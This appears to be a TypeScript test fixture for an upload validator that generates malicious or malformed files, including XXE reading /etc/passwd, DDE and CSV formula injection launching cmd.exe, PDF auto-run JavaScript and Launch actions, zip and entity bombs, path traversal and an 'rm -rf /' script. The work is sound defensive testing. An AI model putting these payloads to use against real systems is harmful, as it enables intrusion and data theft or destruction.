import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { oleOf, PNG, zipOf } from "./containers";
import { chunkOf, gifOf, jpegOf, pdfOf, pngOf, webpOf } from "./good-files";

type Kind = "document" | "image" | "table" | "award";
/** What somebody might send, and the words of the message that must come back. */
export type BadFile = [
  what: string,
  fileName: string,
  kind: Kind,
  bytes: () => Buffer,
  words: string,
  announced?: number,
];

const TYPES = (type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml") => ({
  name: "[Content_Types].xml",
  content: `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
});
const RELS = { name: "_rels/.rels", content: "<Relationships/>" };
type Member = Parameters<typeof zipOf>[0][number];
const word = (...more: Member[]) =>
  zipOf([
    TYPES(),
    RELS,
    { name: "word/document.xml", content: "<w:document><w:t>制度文件</w:t></w:document>" },
    ...more,
  ]);
const sheet = (...more: Member[]) =>
  zipOf([TYPES(), RELS, { name: "xl/workbook.xml", content: "<workbook/>" }, ...more]);
const ofd = (root: string, ...more: Member[]) => zipOf([{ name: "OFD.xml", content: root }, ...more]);
const rels = (type: string, target: string) => ({
  name: "word/_rels/settings.xml.rels",
  content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
});

const EXE = Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", "latin1"), Buffer.alloc(300)]);
const ELF = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(60)]);
const RAR = Buffer.concat([Buffer.from("Rar!\x1a\x07\x01\x00", "latin1"), randomBytes(80)]);
const SEVEN = Buffer.concat([Buffer.from("377abcaf271c0004", "hex"), randomBytes(80)]);
const ZIP = zipOf(["甲.txt", "乙.txt"]);
const HTML = Buffer.from("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>");
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const BOMB = { content: Buffer.alloc(30_000_000) };
const wordStream = (flags: number) => {
  const stream = Buffer.alloc(32);
  stream.writeUInt16LE(flags, 10);
  return stream;
};
const sheetStream = (...records: number[]) =>
  Buffer.concat(records.map((record) => Buffer.from([record & 0xff, record >> 8, 2, 0, 0, 0])));
const catalogWith = (entry: string) => pdfOf({ catalog: entry });
const objectStream = (inside: string) => {
  const packed = deflateSync(Buffer.from(`1 0 ${inside}`));
  return pdfOf({
    after: Buffer.concat([
      Buffer.from(`9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`),
      packed,
      Buffer.from("\nendstream endobj\n"),
    ]),
  });
};
const hugePng = () => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(50_000, 0);
  header.writeUInt32BE(50_000, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    PNG.subarray(0, 8),
    chunkOf("IHDR", header),
    chunkOf("IDAT", Buffer.alloc(10)),
    chunkOf("IEND", Buffer.alloc(0)),
  ]);
};
/** A small file that promises 10,000 × 10,000 pixels and unfolds to nothing. */
const hollowPng = () => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(10_000, 0);
  header.writeUInt32BE(10_000, 4);
  header.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    PNG.subarray(0, 8),
    chunkOf("IHDR", header),
    chunkOf("IDAT", deflateSync(Buffer.alloc(100))),
    chunkOf("IEND", Buffer.alloc(0)),
  ]);
};
const tail = (good: Buffer, behind: Buffer | string) => Buffer.concat([good, Buffer.from(behind as string)]);

const MISMATCH = "内容与扩展名";

const NAMES: BadFile[] = [
  ["程序", "工具.exe", "document", () => EXE, "只接收"],
  ["网页", "页面.html", "document", () => HTML, "只接收"],
  ["矢量图", "图.svg", "image", () => SVG, "只接收"],
  ["启用宏的表格", "台账.xlsm", "table", () => sheet(), "只接收"],
  ["启用宏的文档", "通知.docm", "document", () => word(), "只接收"],
  ["压缩包", "材料.zip", "document", () => ZIP, "只接收"],
  ["没有扩展名", "通知", "document", () => pdfOf(), "只接收"],
  ["只有扩展名", ".pdf", "document", () => pdfOf(), "只接收"],
  ["扩展名后有点", "通知.pdf.", "document", () => pdfOf(), "只接收"],
  ["双扩展名，程序在前", "通知.exe.pdf", "document", () => pdfOf(), "程序的扩展名“.exe”"],
  ["双扩展名，网页在前", "通知.html.pdf", "document", () => pdfOf(), "程序的扩展名“.html”"],
  ["双扩展名，程序在后", "通知.pdf.exe", "document", () => EXE, "只接收"],
  ["反向书写的程序名", "通知\u202Efdp.exe", "document", () => EXE, "只接收"],
  ["系统保留的名称", "CON.pdf", "document", () => pdfOf(), "系统保留"],
  ["设备名", "aux.docx", "document", () => word(), "系统保留"],
  ["过长的名称", `${"长".repeat(220)}.pdf`, "document", () => pdfOf(), "文件名过长"],
  ["只有控制字符的名称", "\u0001\u0002\u200b", "document", () => pdfOf(), "文件没有名称"],
  ["只有路径的名称", "../../", "document", () => pdfOf(), "文件没有名称"],
  ["类别不收的格式", "照片.png", "document", () => PNG, "只接收"],
];

const SIZES: BadFile[] = [
  ["空文件", "空.pdf", "document", () => Buffer.alloc(0), "空的"],
  ["所报为零", "零.pdf", "document", () => pdfOf(), "空的", 0],
  ["超过上限", "大.pdf", "document", () => tail(pdfOf(), Buffer.alloc(2_000_001)), "超过"],
  ["所报超过上限", "大.pdf", "document", () => pdfOf(), "超过", 50_000_000],
  ["比所报的短", "短.pdf", "document", () => pdfOf(), "不一致", 900_000],
  ["比所报的长", "长.pdf", "document", () => pdfOf(), "不一致", 10],
];

const WRONG_KINDS: BadFile[] = [
  ["网页改名为 PDF", "页面.pdf", "document", () => HTML, MISMATCH],
  ["程序改名为图片", "照片.png", "image", () => EXE, MISMATCH],
  ["Linux 程序改名为文档", "通知.docx", "document", () => ELF, MISMATCH],
  ["脚本改名为文本", "说明.txt", "document", () => Buffer.from("#!/bin/sh\nrm -rf /\n"), MISMATCH],
  ["批处理改名为文本", "说明.txt", "document", () => Buffer.from("@echo off\r\ndel *.*"), MISMATCH],
  ["RTF 改名为 doc", "通知.doc", "document", () => Buffer.from("{\\rtf1\\ansi hello}"), MISMATCH],
  ["矢量图改名为图片", "图.png", "image", () => SVG, MISMATCH],
  ["图片改名为另一种图片", "照片.jpg", "image", () => PNG, MISMATCH],
  ["PDF 改名为文档", "通知.docx", "document", () => pdfOf(), MISMATCH],
  ["文档改名为表格", "台账.xlsx", "table", () => word(), MISMATCH],
  ["压缩包改名为文档", "材料.docx", "document", () => ZIP, MISMATCH],
  ["RAR 改名为 PDF", "材料.pdf", "document", () => RAR, MISMATCH],
  ["7z 改名为 OFD", "材料.ofd", "document", () => SEVEN, MISMATCH],
  ["PDF 前面另有内容", "通知.pdf", "document", () => Buffer.concat([EXE, pdfOf()]), MISMATCH],
  ["Visio 改名为 doc", "图.doc", "document", () => oleOf([{ name: "VisioDocument" }]), MISMATCH],
  ["文本里有控制字符", "说明.txt", "document", () => Buffer.from([1, 2, 3, 4, 0, 9]), MISMATCH],
  ["文档里有向外的路径", "通知.docx", "document", () => word("../../evil.sh"), MISMATCH],
  ["文档里有绝对路径", "通知.docx", "document", () => word("/etc/passwd"), MISMATCH],
  ["文档里有符号链接", "通知.docx", "document", () => word({ name: "word/x", symlink: true }), MISMATCH],
  ["截断的文档", "通知.docx", "document", () => word().subarray(0, 60), MISMATCH],
  ["截断的旧文档", "通知.doc", "document", () => oleOf([{ name: "WordDocument" }]).subarray(0, 600), MISMATCH],
];

const LOCKED: BadFile[] = [
  [
    "有密码的新文档",
    "通知.docx",
    "document",
    () => oleOf([{ name: "EncryptionInfo" }, { name: "EncryptedPackage" }]),
    "打开密码",
  ],
  [
    "有密码的新表格",
    "台账.xlsx",
    "table",
    () => oleOf([{ name: "EncryptionInfo" }, { name: "EncryptedPackage" }]),
    "打开密码",
  ],
  [
    "有密码的旧文档",
    "通知.doc",
    "document",
    () => oleOf([{ name: "WordDocument", content: wordStream(0x0100) }]),
    "打开密码",
  ],
  [
    "有密码的旧表格",
    "台账.xls",
    "table",
    () => oleOf([{ name: "Workbook", content: sheetStream(0x809, 0x2f) }]),
    "打开密码",
  ],
  ["成员加密的文档", "通知.docx", "document", () => word({ name: "word/a.xml", encrypted: true }), "打开密码"],
  [
    "有密码的 PDF",
    "通知.pdf",
    "document",
    () =>
      pdfOf({
        trailer:
          "/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(12345678901234567890123456789012)/U(12345678901234567890123456789012)>>/ID[(a)(a)]",
      }),
    "打开密码",
  ],
];

const MACROS: BadFile[] = [
  ["文档里的宏", "通知.docx", "document", () => word("word/vbaProject.bin"), "含有宏"],
  ["表格里的宏", "台账.xlsx", "table", () => sheet("xl/vbaProject.bin"), "含有宏"],
  ["表格里的宏表", "台账.xlsx", "table", () => sheet("xl/macrosheets/sheet1.xml"), "含有宏"],
  ["文档里的控件", "通知.docx", "document", () => word("word/activeX/activeX1.xml"), "含有宏"],
  [
    "旧文档里的宏",
    "通知.doc",
    "document",
    () => oleOf([{ name: "WordDocument", content: wordStream(0) }, { name: "Macros" }]),
    "含有宏",
  ],
  [
    "旧表格里的宏",
    "台账.xls",
    "table",
    () => oleOf([{ name: "Workbook", content: sheetStream(0x809) }, { name: "_VBA_PROJECT_CUR" }]),
    "含有宏",
  ],
  [
    "启用宏的格式改名为 docx",
    "通知.docx",
    "document",
    () => zipOf([TYPES("application/vnd.ms-word.document.macroEnabled.main+xml"), RELS, "word/document.xml"]),
    "启用宏的格式",
  ],
  [
    "嵌入的表格里的宏",
    "通知.docx",
    "document",
    () => word({ name: "word/embeddings/a.xlsx", content: sheet("xl/vbaProject.bin") }),
    "启用宏的格式",
  ],
];

const BOMBS: BadFile[] = [
  ["压缩炸弹文档", "通知.docx", "document", () => word({ name: "word/a.xml", ...BOMB }), "展开后过大"],
  ["压缩炸弹表格", "台账.xlsx", "table", () => sheet({ name: "xl/a.xml", ...BOMB }), "展开后过大"],
  ["称有一个 GB 的文档", "通知.docx", "document", () => word({ name: "word/a.xml", declaredSize: 1e9 }), "展开后过大"],
  [
    "隐瞒大小的压缩炸弹",
    "通知.docx",
    "document",
    () => word({ name: "word/a.xml", ...BOMB, declaredSize: 1_000 }),
    "所称不符",
  ],
  [
    "一万个成员的文档",
    "通知.docx",
    "document",
    () => word(...Array.from({ length: 10_000 }, (_, n) => ({ name: `word/${n}.xml`, content: "" }))),
    "展开后过大",
  ],
  ["五万乘五万的图片", "照片.png", "image", hugePng, "展开后过大"],
  ["展开后什么也没有的图片", "照片.png", "image", hollowPng, "显示不出来"],
  [
    "文档里的实体炸弹",
    "通知.docx",
    "document",
    () =>
      word({
        name: "word/a.xml",
        content: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>',
      }),
    "实体声明",
  ],
  [
    "表格里取外部文件的实体",
    "台账.xlsx",
    "table",
    () => sheet({ name: "xl/a.xml", content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
    "实体声明",
  ],
];

const BROKEN: BadFile[] = [
  ["截断的 PDF", "通知.pdf", "document", () => tail(pdfOf().subarray(0, 120), Buffer.alloc(4_000, 0x20)), "不完整"],
  ["没有页面的 PDF", "通知.pdf", "document", () => pdfOf({ pages: 0 }), "没有页面"],
  ["截断的 PNG", "照片.png", "image", () => pngOf(64, 48).subarray(0, 900), "不完整"],
  ["截断的 JPEG", "照片.jpg", "image", () => jpegOf().subarray(0, 250), "不完整"],
  ["截断的 GIF", "照片.gif", "image", () => gifOf().subarray(0, 30), "不完整"],
  ["截断的 WebP", "照片.webp", "image", () => webpOf().subarray(0, 40), "不完整"],
  [
    "数据损坏的 PNG",
    "照片.png",
    "image",
    () => Buffer.concat([pngOf(64, 48).subarray(0, 60), randomBytes(400), chunkOf("IEND", Buffer.alloc(0))]),
    "显示不出来",
  ],
  ["成员同名的文档", "通知.docx", "document", () => word("word/a.xml", "word/a.xml"), "已损坏"],
  ["缺正文的文档", "通知.docx", "document", () => zipOf([TYPES(), RELS, "word/styles.xml"]), "已损坏"],
  [
    "成员损坏的文档",
    "通知.docx",
    "document",
    () => spoilt(word({ name: "word/a.xml", content: randomBytes(3_000).toString("hex") })),
    "已损坏",
  ],
  ["没有版式文档的 OFD", "发文.ofd", "document", () => ofd("<ofd:OFD></ofd:OFD>"), "OFD 的结构"],
  [
    "所指的版式文档不在的 OFD",
    "发文.ofd",
    "document",
    () => ofd("<ofd:OFD><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:OFD>"),
    "OFD 的结构",
  ],
];

const ACTIVE: BadFile[] = [
  [
    "带脚本的 PDF",
    "通知.pdf",
    "document",
    () => catalogWith("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "自动运行的脚本",
  ],
  [
    "脚本改写名称的 PDF",
    "通知.pdf",
    "document",
    () => catalogWith("/OpenAction<</S/J#61vaScript/J#53(1)>>"),
    "自动运行的脚本",
  ],
  [
    "脚本藏在对象流里的 PDF",
    "通知.pdf",
    "document",
    () => objectStream("<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "自动运行的脚本",
  ],
  ["启动程序的 PDF", "通知.pdf", "document", () => catalogWith("/OpenAction<</S/Launch/F(cmd.exe)>>"), "启动其他程序"],
  [
    "附带文件的 PDF",
    "通知.pdf",
    "document",
    () => pdfOf({ after: Buffer.from("8 0 obj<</Type/Filespec/F(a.exe)/EF <</F 7 0 R>>>>endobj\n") }),
    "附带了",
  ],
  ["PDF 后面接压缩包", "通知.pdf", "document", () => tail(pdfOf(), ZIP), "另一种格式"],
  ["图片后面接压缩包", "照片.png", "image", () => tail(PNG, ZIP), "另一种格式"],
  ["图片后面接网页", "照片.jpg", "image", () => tail(jpegOf(), "<script>alert(1)</script>"), "另一种格式"],
  ["图片里的脚本", "照片.gif", "image", () => tail(gifOf(), "/*<script >x</script >;"), "另一种格式"],
  ["文档里嵌程序", "通知.docx", "document", () => word({ name: "word/embeddings/a.exe", content: EXE }), "附带了"],
  ["文档里嵌压缩包", "通知.docx", "document", () => word({ name: "word/media/a.zip", content: ZIP }), "附带了"],
  ["文档里改名的压缩包", "通知.docx", "document", () => word({ name: "word/media/a.png", content: ZIP }), "附带了"],
  [
    "文档里打包的对象",
    "通知.docx",
    "document",
    () => word({ name: "word/embeddings/oleObject1.bin", content: oleOf([{ name: "\u0001Ole10Native" }]) }),
    "附带了",
  ],
  [
    "旧文档里打包的对象",
    "通知.doc",
    "document",
    () => oleOf([{ name: "WordDocument", content: wordStream(0) }, { name: "\u0001Ole10Native" }]),
    "附带了",
  ],
  ["外部模板", "通知.docx", "document", () => word(rels("attachedTemplate", "http://192.0.2.1/a.dotm")), "外部取用"],
  ["外部对象", "通知.docx", "document", () => word(rels("oleObject", "\\\\192.0.2.1\\a\\b.doc")), "外部取用"],
  ["外部框架", "通知.docx", "document", () => word(rels("frame", "https://example.com/a")), "外部取用"],
  [
    "文档里的 DDE",
    "通知.docx",
    "document",
    () =>
      word({
        name: "word/header1.xml",
        content:
          '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
      }),
    "DDE",
  ],
  [
    "表格里的 DDE",
    "台账.xlsx",
    "table",
    () =>
      sheet({
        name: "xl/externalLinks/externalLink1.xml",
        content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
      }),
    "DDE",
  ],
  ["CSV 里启动程序的单元格", "台账.csv", "table", () => Buffer.from("姓名,金额\n=cmd|'/C calc'!A0,1\n"), "夹带了程序"],
  [
    "文本末尾的网页",
    "说明.txt",
    "document",
    () => tail(Buffer.from("说明".repeat(40_000)), "<script>1</script>"),
    "夹带了程序",
  ],
  [
    "文本末尾的控制字符",
    "说明.txt",
    "document",
    () => tail(Buffer.from("说明".repeat(40_000)), Buffer.from([0, 1])),
    "夹带了程序",
  ],
];

/** The last member is packed in a way that nobody knows. */
function spoilt(zip: Buffer): Buffer {
  zip.writeUInt16LE(99, zip.indexOf("word/a.xml") - 22);
  zip.writeUInt16LE(99, zip.lastIndexOf("word/a.xml") - 36);
  return zip;
}

export const BAD_FILES: readonly BadFile[] = [
  ...NAMES,
  ...SIZES,
  ...WRONG_KINDS,
  ...LOCKED,
  ...MACROS,
  ...BOMBS,
  ...BROKEN,
  ...ACTIVE,
];
